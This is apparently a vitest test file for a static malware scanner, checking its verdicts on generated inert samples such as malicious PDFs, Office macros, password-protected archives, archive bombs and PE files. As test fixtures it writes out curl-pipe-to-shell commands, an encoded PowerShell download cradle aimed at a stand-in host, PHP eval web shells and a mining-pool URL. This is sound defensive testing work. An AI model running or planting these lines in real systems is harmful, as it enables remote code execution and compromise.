import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTarGz, makeZip } from './containers';
import {
  cleanPdf,
  ddeBody,
  eicar,
  javascriptPdf,
  makeApk,
  makeDocx,
  makeJar,
  makePdf,
  makePe,
  remoteTemplateRels,
} from './documents';
import { DROPPER, MACRO, upxPackedElf, writeAesZip } from './corpus';
import { analyzeFile, cli, findingById, findingIds, mediumOrAbove, ensureVenv, python, requireVenv } from './engine';

/**
 * The Python static engine (static/sandtrap_static) through its CLI, over a corpus generated here:
 * every sample is inert and written to a temp dir (nothing is committed, nothing reaches the
 * network). The engine runs from the project venv `.venv-static`, made here when missing; when it
 * cannot be made every test fails (none is skipped) and says how to create it.
 */

let dir: string;
const file = (name: string) => join(dir, name);
const write = (name: string, data: Buffer | string) => {
  writeFileSync(file(name), data);
  return file(name);
};

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'sandtrap-static-'));
  ensureVenv();
  writeAesZip(file('aes-infected.zip'), 'infected', 'dropper.sh', DROPPER);
  writeAesZip(file('aes-unknown.zip'), 'not-a-customary-one', 'dropper.sh', DROPPER);
}, 420_000);

afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

it('the project venv .venv-static exists (see static/README.md)', () => {
  expect(requireVenv).not.toThrow();
});

describe('test files and documents', () => {
  it('the EICAR test file is the threat EICAR-Test-File, with the matching YARA strings', () => {
    const report = analyzeFile(write('eicar.com', eicar()));
    expect(report.size).toBe(68);
    expect(report.threats).toEqual([
      { name: 'EICAR-Test-File', engine: 'static', category: 'test-file', family: null, confidence: 'high' },
    ]);
    const match = report.yara.find((y) => y.rule === 'eicar_test_file');
    expect(match?.namespace).toBe('sandtrap');
    expect(match?.strings.map((s) => [s.identifier, s.offset])).toEqual([
      ['$head', 0],
      ['$tail', 28],
    ]);
    expect(findingById(report, 'yara.eicar_test_file')?.severity).toBe('critical');
  });

  it('a PDF that runs JavaScript on open is high T1059.007, with the objects as evidence', () => {
    const report = analyzeFile(write('open-js.pdf', javascriptPdf()));
    expect(report.fileType).toEqual({ type: 'pdf', mime: 'application/pdf' });
    const auto = findingById(report, 'pdf.auto-javascript');
    expect(auto?.severity).toBe('high');
    expect(auto?.attack).toEqual(['T1059.007']);
    expect(auto?.evidence.join('\n')).toContain('/OpenAction 5 0 R');
    expect(findingById(report, 'pdf.javascript')?.evidence.join('\n')).toContain('obj 5 0: 5 0 obj << /Type /Action');
  });

  it('hex-escaped names (/J#61vaScript) count as JavaScript and are themselves reported', () => {
    const report = analyzeFile(
      write('escaped.pdf', makePdf(['<< /Type /Catalog /OpenAction 2 0 R >>', '<< /S /J#61vaScript /J#53 (1) >>'])),
    );
    expect(findingById(report, 'pdf.auto-javascript')?.severity).toBe('high');
    expect(findingById(report, 'pdf.obfuscated-names')?.evidence).toEqual(['/JavaScript: 1 escaped', '/JS: 1 escaped']);
  });

  it('a clean PDF has no finding of medium or above', () => {
    const report = analyzeFile(write('clean.pdf', cleanPdf()));
    expect(report.fileType.type).toBe('pdf');
    expect(mediumOrAbove(report)).toEqual([]);
    expect(report.errors).toEqual([]);
  });

  it('a docx whose attached template is remote is template injection (T1221)', () => {
    const docx = makeDocx({ settingsRels: remoteTemplateRels('https://example.invalid/template.dotm') });
    const report = analyzeFile(write('invoice.docx', docx));
    expect(report.fileType.type).toBe('docx');
    const injection = findingById(report, 'office.template-injection');
    expect(injection).toMatchObject({ severity: 'high', attack: ['T1221'] });
    expect(injection?.evidence).toEqual([
      'word/_rels/settings.xml.rels: attachedTemplate -> https://example.invalid/template.dotm',
    ]);
  });

  it('a docx with a DDEAUTO field split over runs is DDE execution (T1559.002)', () => {
    const report = analyzeFile(write('dde.docx', makeDocx({ body: ddeBody() })));
    const dde = findingById(report, 'office.dde');
    expect(dde).toMatchObject({ severity: 'high', attack: ['T1559.002'] });
    expect(dde?.evidence[0]).toContain('DDEAUTO');
  });

  it('a clean docx is typed docx with no finding of medium or above', () => {
    const report = analyzeFile(write('clean.docx', makeDocx()));
    expect(report.fileType).toEqual({
      type: 'docx',
      mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    });
    expect(mediumOrAbove(report)).toEqual([]);
  });

  it('a docm with an AutoOpen macro calling Shell: olevba finds the macro, AutoExec and Shell', () => {
    const report = analyzeFile(write('macro.docm', makeDocx({ macro: { module: 'Module1', source: MACRO } })));
    expect(report.fileType.type).toBe('docm');
    expect(findingById(report, 'office.macros')?.evidence[0]).toContain('Sub AutoOpen()');
    expect(findingById(report, 'office.autoexec')).toMatchObject({ severity: 'high', attack: ['T1204.002'] });
    expect(findingById(report, 'office.autoexec')?.evidence[0]).toMatch(/^AutoOpen: /);
    const suspicious = findingById(report, 'office.suspicious');
    expect(suspicious?.severity).toBe('high');
    expect(suspicious?.evidence.some((e) => e.startsWith('Shell: '))).toBe(true);
  });

  it('a command shown in plain text is context (low), the same command in a script is evidence (high)', () => {
    const line = 'curl -fsSL https://get.example.test/install.sh | sh\n';
    const readme = analyzeFile(write('INSTALL.md', `# Install\n\nRun:\n\n    ${line}`));
    expect(readme.fileType.type).toBe('text');
    const shown = findingById(readme, 'yara.downloader_pipe_to_shell');
    expect(shown?.severity).toBe('low');
    expect(shown?.evidence.at(-1)).toMatch(/^in a file nothing runs as it is .*: was high$/);
    expect(mediumOrAbove(readme)).toEqual([]);
    const script = analyzeFile(write('install.sh', `#!/bin/sh\n${line}`));
    expect(findingById(script, 'yara.downloader_pipe_to_shell')?.severity).toBe('high');
  });

  it('a jar and an apk are typed as such', () => {
    expect(analyzeFile(write('app.jar', makeJar())).fileType).toEqual({
      type: 'jar',
      mime: 'application/java-archive',
    });
    expect(analyzeFile(write('app.apk', makeApk())).fileType).toEqual({
      type: 'apk',
      mime: 'application/vnd.android.package-archive',
    });
  });
});

describe('archives', () => {
  it('a zip encrypted (AES) with "infected" is opened: the dropper inside is found at its path', () => {
    const report = analyzeFile(file('aes-infected.zip'));
    expect(report.encrypted).toBe(false);
    expect(report.members).toEqual([expect.objectContaining({ path: 'dropper.sh', fileType: 'script-sh' })]);
    expect(findingById(report, 'script.download-exec', 'dropper.sh')).toMatchObject({
      severity: 'high',
      attack: ['T1059', 'T1105'],
    });
    expect(findingById(report, 'yara.downloader_pipe_to_shell', 'dropper.sh')?.severity).toBe('high');
    expect(findingById(report, 'archive.customary-password')?.evidence).toEqual(["opened with 'infected'"]);
  });

  it('ZipCrypto with another customary password ("malware") is opened too', () => {
    const zip = makeZip([{ name: 'dropper.sh', data: DROPPER, deflate: true, password: 'malware' }]);
    const report = analyzeFile(write('zipcrypto.zip', zip));
    expect(report.encrypted).toBe(false);
    expect(findingById(report, 'script.download-exec', 'dropper.sh')?.severity).toBe('high');
  });

  it('a zip with an unknown password is reported as encrypted (archive.encrypted)', () => {
    const report = analyzeFile(file('aes-unknown.zip'));
    expect(report.encrypted).toBe(true);
    expect(findingById(report, 'archive.encrypted')).toMatchObject({
      severity: 'medium',
      evidence: ['locked: dropper.sh'],
    });
    expect(report.members).toEqual([expect.objectContaining({ path: 'dropper.sh', fileType: 'encrypted' })]);
    expect(findingIds(report)).not.toContain('script.download-exec');
  });

  it('zip in tar.gz in zip: the innermost member is analysed and named by its full path', () => {
    const inner = makeZip([{ name: 'dropper.sh', data: DROPPER, deflate: true }]);
    const tarGz = makeTarGz([{ name: 'inner.zip', data: inner }]);
    const report = analyzeFile(write('outer.zip', makeZip([{ name: 'inner.tar.gz', data: tarGz }])));
    const path = 'inner.tar.gz/inner.zip/dropper.sh';
    expect(report.members.map((m) => [m.path, m.fileType])).toEqual([
      ['inner.tar.gz', 'gzip'],
      ['inner.tar.gz/inner.zip', 'zip'],
      [path, 'script-sh'],
    ]);
    expect(findingById(report, 'script.download-exec', path)?.severity).toBe('high');
  });

  it('nesting past depth 3 is not opened, and says so', () => {
    let nested = makeZip([{ name: 'dropper.sh', data: DROPPER }]);
    for (let level = 4; level >= 1; level--) nested = makeZip([{ name: `level${level}.zip`, data: nested }]);
    const report = analyzeFile(write('deep.zip', nested));
    expect(findingById(report, 'static.budget-exceeded')?.evidence[0]).toMatch(/^depth: /);
    expect(report.findings.some((f) => f.id === 'script.download-exec')).toBe(false);
  });

  it('a zip bomb-ish member (100 MiB of zeros) is refused by the size budget, quickly; its sibling is analysed', () => {
    const bomb = makeZip([
      { name: 'zeros.bin', data: Buffer.alloc(100 * 1024 * 1024), deflate: true },
      { name: 'dropper.sh', data: DROPPER },
    ]);
    const path = write('bomb.zip', bomb);
    const run = cli(['analyze', path]);
    expect(run.status).toBe(0);
    expect(run.ms).toBeLessThan(10_000);
    const report = JSON.parse(run.stdout);
    const budget = findingById(report, 'static.budget-exceeded');
    expect(budget?.severity).toBe('low');
    expect(budget?.evidence[0]).toMatch(/^bytes: zeros\.bin declares 104857600 bytes/);
    expect(findingById(report, 'script.download-exec', 'dropper.sh')).toBeDefined();
  });

  it('a gzip bomb (no trustworthy size header) is cut off by the streaming counter', () => {
    const report = analyzeFile(write('zeros.gz', gzipSync(Buffer.alloc(100 * 1024 * 1024), { level: 1 })));
    expect(findingById(report, 'static.budget-exceeded')?.evidence[0]).toMatch(/^bytes: .*decompresses to more than/);
    expect(report.members).toEqual([]);
  });

  it('more than 64 members: the rest are left out under the members budget', () => {
    const many = makeZip(Array.from({ length: 70 }, (_, i) => ({ name: `note-${i}.txt`, data: `note ${i}\n` })));
    const report = analyzeFile(write('many.zip', many));
    expect(report.members).toHaveLength(64);
    expect(findingById(report, 'static.budget-exceeded')?.evidence[0]).toMatch(/^members: /);
  });
});

describe('report bounds', () => {
  it('past 200 findings the most severe are kept and static.truncated says how many there were', () => {
    const busy = 'curl -s http://example.invalid/a | sh\n<?php eval($_GET["a"]); ?>\nstratum+tcp://pool.invalid:3333\n';
    const zip = makeZip(Array.from({ length: 64 }, (_, i) => ({ name: `m${i}.sh`, data: busy })));
    const report = analyzeFile(write('busy.zip', zip));
    expect(report.findings).toHaveLength(200);
    expect(report.findings.slice(0, 199).every((f) => f.severity === 'high')).toBe(true);
    expect(report.findings[199]).toMatchObject({ id: 'static.truncated', evidence: ['258 findings, 199 kept'] });
  });
});

describe('executables and scripts', () => {
  it('an ELF (a copy of /bin/true) gets only low findings (stripped / static)', () => {
    copyFileSync('/bin/true', file('true.elf'));
    const report = analyzeFile(file('true.elf'));
    expect(report.fileType.type).toBe('elf');
    expect(mediumOrAbove(report)).toEqual([]);
    expect(report.findings.some((f) => ['elf.stripped', 'elf.static'].includes(f.id))).toBe(true);
  });

  it('an ELF packed by UPX is reported as packed (T1027.002)', () => {
    const report = analyzeFile(write('packed.elf', upxPackedElf(dir)));
    expect(findingById(report, 'elf.packed')).toMatchObject({ severity: 'medium', attack: ['T1027.002'] });
    expect(findingById(report, 'yara.packer_upx')?.attack).toEqual(['T1027.002']);
  });

  it('a PE importing injection and download APIs, with a high-entropy code section', () => {
    const pe = makePe({
      'KERNEL32.dll': ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread', 'ExitProcess'],
      'urlmon.dll': ['URLDownloadToFileA'],
    });
    const report = analyzeFile(write('sample.exe', pe));
    expect(report.fileType.type).toBe('pe');
    expect(findingById(report, 'pe.injection-imports')).toMatchObject({ severity: 'high', attack: ['T1055'] });
    expect(findingById(report, 'pe.injection-imports')?.evidence).toContain('KERNEL32.dll!WriteProcessMemory');
    expect(findingById(report, 'pe.download-imports')).toMatchObject({ severity: 'medium', attack: ['T1105'] });
    expect(findingById(report, 'pe.packed-section')?.severity).toBe('medium');
    expect(findingById(report, 'pe.overlay')?.severity).toBe('low');
  });

  it('a malformed PE (MZ without a PE header) is a low finding, not an error', () => {
    const report = analyzeFile(write('broken.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])));
    expect(findingById(report, 'pe.malformed')?.severity).toBe('low');
    expect(report.errors).toEqual([]);
  });

  it('PowerShell -EncodedCommand: the decoded download cradle is in the evidence', () => {
    const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/stage2.ps1')";
    const encoded = Buffer.from(cradle, 'utf16le').toString('base64');
    const report = analyzeFile(write('launch.ps1', `powershell.exe -NoProfile -EncodedCommand ${encoded}\n`));
    expect(report.fileType.type).toBe('script-powershell');
    const finding = findingById(report, 'script.powershell-encoded');
    expect(finding).toMatchObject({ severity: 'high', attack: ['T1027', 'T1059.001'] });
    expect(finding?.evidence).toContain(`decoded: ${cradle}`);
    expect(findingById(report, 'script.download-exec')?.evidence[0]).toContain('decoded -EncodedCommand: IEX');
  });

  it('a PHP web shell is found by the bundled YARA rules', () => {
    const shell = '<?php\n// tools\n@eval($_POST["cmd"]);\n?>\n';
    const report = analyzeFile(write('upload.php', shell));
    expect(report.fileType.type).toBe('script-php');
    expect(findingById(report, 'yara.webshell_php_request_exec')).toMatchObject({
      severity: 'high',
      category: 'persistence',
      attack: ['T1505.003'],
    });
    const sink = 'eval($_POST[';
    expect(report.yara[0]?.strings[0]).toEqual({
      identifier: '$sink',
      offset: shell.indexOf(sink),
      length: sink.length,
    });
  });

  it('an empty file is typed empty and has no findings', () => {
    const report = analyzeFile(write('empty.bin', ''));
    expect(report).toMatchObject({ fileType: { type: 'empty' }, size: 0, findings: [], yara: [], members: [] });
  });
});

describe('user rule packs', () => {
  const RULE = (name: string, marker: string) =>
    `rule ${name} {\n  meta:\n    severity = "high"\n    category = "dataHarvesting"\n    attack = "T1005"\n  strings:\n    $m = "${marker}"\n  condition:\n    $m\n}\n`;

  it('a pack given with --rules-dir adds its matches', () => {
    const pack = join(dir, 'pack-a');
    mkdirSync(pack);
    writeFileSync(join(pack, 'marker.yar'), RULE('user_marker', 'SANDTRAP-MARKER-ONE'));
    const sample = write('notes.txt', 'meeting notes\nSANDTRAP-MARKER-ONE\nSANDTRAP-MARKER-TWO\n');
    expect(analyzeFile(sample).findings).toEqual([]);
    const report = analyzeFile(sample, { rulesDirs: [pack] });
    expect(findingById(report, 'yara.user_marker')).toMatchObject({
      severity: 'high',
      category: 'dataHarvesting',
      attack: ['T1005'],
    });
    expect(report.yara[0]).toMatchObject({ rule: 'user_marker', namespace: 'user_pack_a' });
  });

  it('a pack edited in place is recompiled on the next analysis in the same process', () => {
    const pack = join(dir, 'pack-b');
    mkdirSync(pack);
    writeFileSync(join(pack, 'marker.yar'), RULE('user_marker', 'SANDTRAP-MARKER-ONE'));
    const sample = write('notes-b.txt', 'SANDTRAP-MARKER-ONE\nSANDTRAP-MARKER-TWO\n');
    const out = python(
      `
import json, sys
from sandtrap_static import analyze, yara_rules
pack, sample, new_rule = sys.argv[1], sys.argv[2], sys.argv[3]
data = open(sample, "rb").read()
ids = lambda report: sorted(f["id"] for f in report["findings"])
first = analyze(data, "notes.txt", [pack])
cached = yara_rules.load_pack(pack) is yara_rules.load_pack(pack)
with open(pack + "/marker.yar", "w") as rule_file:
    rule_file.write(new_rule)
second = analyze(data, "notes.txt", [pack])
print(json.dumps({"first": ids(first), "cached": cached, "second": ids(second)}))
`,
      [pack, sample, RULE('user_marker_two', 'SANDTRAP-MARKER-TWO')],
    );
    expect(JSON.parse(out)).toEqual({ first: ['yara.user_marker'], cached: true, second: ['yara.user_marker_two'] });
  });

  it('a pack that does not compile is reported in errors; the bundled rules still apply', () => {
    const pack = join(dir, 'pack-broken');
    mkdirSync(pack);
    writeFileSync(join(pack, 'broken.yar'), 'rule broken { condition: undefined_identifier }\n');
    const report = analyzeFile(write('eicar-2.com', eicar()), { rulesDirs: [pack] });
    expect(report.errors).toHaveLength(1);
    expect(report.errors[0]).toContain('broken.yar');
    expect(report.threats.map((t) => t.name)).toEqual(['EICAR-Test-File']);
  });
});

describe('CLI contract', () => {
  it('prints nothing on stdout and exits 2 on a usage error or an unreadable file', () => {
    for (const args of [[], ['analyze'], ['scan', 'x'], ['analyze', join(dir, 'does-not-exist')]]) {
      const run = cli(args);
      expect(run.status).toBe(2);
      expect(run.stdout).toBe('');
      expect(run.stderr).not.toBe('');
    }
  });

  it('a spent time budget ends the analysis with a finding, not a failure', () => {
    const out = python(
      `
import importlib, json
from sandtrap_static.budget import Budget
# The package exports the analyze() function under the module's name: fetch the module itself.
engine = importlib.import_module("sandtrap_static.analyze")
engine.Budget = lambda: Budget(max_seconds=0.0)
print(json.dumps(engine.analyze(b"#!/bin/sh\\necho hi\\n", "a.sh")))
`,
    );
    const report = JSON.parse(out);
    expect(report.findings.map((f: { id: string }) => f.id)).toEqual(['static.budget-exceeded']);
    expect(report.findings[0].evidence[0]).toMatch(/^time: /);
    expect(report.fileType.type).toBe('script-sh');
  });

  it('the report has the documented shape, with the original name from --name', () => {
    const report = analyzeFile(write('blob', '#!/bin/sh\necho hello\n'), { name: 'hello.sh' });
    expect(Object.keys(report)).toEqual([
      'schema',
      'fileType',
      'size',
      'sha256',
      'findings',
      'threats',
      'yara',
      'members',
      'encrypted',
      'errors',
    ]);
    expect(report).toMatchObject({ schema: 1, fileType: { type: 'script-sh', mime: 'text/x-shellscript' } });
    expect(report.sha256).toMatch(/^[0-9a-f]{64}$/);
  });
});
